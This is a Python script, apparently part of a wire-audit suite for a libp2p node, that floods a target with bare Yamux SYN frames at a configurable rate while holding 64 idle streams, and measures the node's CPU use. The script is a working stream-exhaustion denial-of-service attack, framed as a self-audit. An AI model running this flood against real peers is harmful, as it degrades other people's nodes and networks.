"""A peer holds HELD silent streams on one connection (the node's per-connection cap is 64), then
opens RATE more a second for 30 s, each a bare Yamux SYN frame (the cheapest way to open one),
never used; the node's CPU-s per second.
`python scripts/wire_audit/stream_flood.py 1000 64`"""
import struct
import sys

from common import attacker, flood, main, measure

import trio

RATE = int(sys.argv[1]) if len(sys.argv) > 1 else 1000
HELD = int(sys.argv[2]) if len(sys.argv) > 2 else 64
SYN, WINDOW_UPDATE = 0x1, 0x1
FIRST_ID = 1_000_001        # odd (the dialer's), far above the ids our own streams take


def syn(stream_id: int) -> bytes:
    """A Yamux WINDOW_UPDATE frame with SYN: opens stream `stream_id`, no data."""
    return struct.pack("!BBHII", 0, WINDOW_UPDATE, SYN, stream_id, 0)


async def attack(node):
    async with attacker(node) as (host, target):
        muxed = host.get_network().get_connections(target.peer_id)[0].muxed_conn
        muxed.stream_backlog_semaphore = trio.Semaphore(10**9)    # our own side's bound
        held = [await muxed.open_stream() for _ in range(HELD)]
        await trio.sleep(2)
        print("held", len(held), "before", measure(node), flush=True)
        next_id = [FIRST_ID]
        step = max(1, RATE // 10)

        async def write() -> int:
            frames = b"".join(syn(next_id[0] + 2 * k) for k in range(step))
            next_id[0] += 2 * step
            await muxed._write_frame(frames)
            await trio.sleep(0.1)
            return len(frames)

        await flood(node, write)
        print("streams opened", (next_id[0] - FIRST_ID) // 2, flush=True)


main(attack)
